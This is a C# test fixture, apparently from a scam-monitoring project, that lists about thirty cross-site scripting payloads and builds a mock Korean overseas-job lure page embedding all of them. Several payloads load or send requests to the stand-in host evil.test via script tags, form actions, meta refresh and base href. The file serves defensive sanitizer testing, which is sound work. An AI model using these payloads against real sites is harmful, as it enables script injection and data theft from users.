namespace ScamWatch.Tests.Web.Browser;

/// <summary>
/// Payloads a criminal can put in a post's text or its page: each, if it ever ran or loaded, would set
/// <c>window.__pwned</c>, open a dialog, or send a request to evil.test or to a same-origin "/pwned" path.
/// </summary>
public static class XssCorpus
{
    public static readonly string[] Payloads =
    [
        "<script>window.__pwned='script';fetch('http://evil.test/script')</script>",
        "<img src=x onerror=\"window.__pwned='img-onerror';alert(1)\">",
        "<img src=\"/pwned-img\">",
        "<img srcset=\"http://evil.test/srcset 1x\">",
        "<a href=\"javascript:window.__pwned='js-url'\">지원하기</a>",
        "<a href=\"data:text/html,<script>alert(2)</script>\">상세</a>",
        "<svg onload=\"window.__pwned='svg-onload'\"><script>window.__pwned='svg-script'</script><image href=\"http://evil.test/svg-image\"/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
        "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='noscript'>\">",
        "<style>@import 'http://evil.test/import.css'; body { background: url(/pwned-css) }</style>",
        "<div style=\"background-image:url(http://evil.test/inline-css)\">배경</div>",
        "<link rel=\"stylesheet\" href=\"http://evil.test/link.css\"><link rel=\"prefetch\" href=\"/pwned-prefetch\">",
        "<iframe src=\"http://evil.test/frame\"></iframe><iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>",
        "<object data=\"http://evil.test/object\"></object><embed src=\"http://evil.test/embed\">",
        "<form action=\"http://evil.test/form\"><input name=q autofocus onfocus=\"window.__pwned='autofocus'\"><button>보내기</button></form>",
        "<input type=\"image\" src=\"http://evil.test/input-image\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.test/refresh\">",
        "<base href=\"http://evil.test/\">",
        "<details open ontoggle=\"window.__pwned='details'\"><summary>문의</summary></details>",
        "<video><source onerror=\"window.__pwned='video'\"></video><audio src=\"http://evil.test/audio\"></audio>",
        "<table background=\"http://evil.test/table-bg\"><tr><td>월급</td></tr></table>",
        "<body onload=\"window.__pwned='body-onload'\">",
        "\"><script>window.__pwned='breakout'</script>",
        "'><img src=x onerror=window.__pwned='single-quote'>",
        "</textarea></title><script>window.__pwned='close-tags'</script>",
        "<scr<script>ipt>window.__pwned='nested'</scr</script>ipt>",
        "<a href=\"jav&#x09;ascript:window.__pwned='entity-js'\">링크</a>",
        "<div onmouseover=\"window.__pwned='hover'\">마우스를 올리세요</div>",
        "<marquee onstart=\"window.__pwned='marquee'\">급구</marquee>",
        "<template><script>window.__pwned='template'</script></template>",
    ];

    /// <summary>A captured detail page a board could really serve: lure text with every payload in the layout.</summary>
    public static string Page(string lure) =>
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>캄보디아 고수익 <script>window.__pwned='head'</script></title>" +
        "<script src=\"http://evil.test/head.js\"></script><link rel=\"icon\" href=\"http://evil.test/favicon.ico\"></head>" +
        "<body><form id=\"aspnetForm\" action=\"http://evil.test/postback\"><div class=\"view\"><h2>해외 고수익 채용</h2><table><tr><th>급여</th><td>월 800만원</td></tr></table>" +
        $"<p>{System.Net.WebUtility.HtmlEncode(lure)}</p>" + string.Join("\n", Payloads) + "</div></form></body></html>";
}
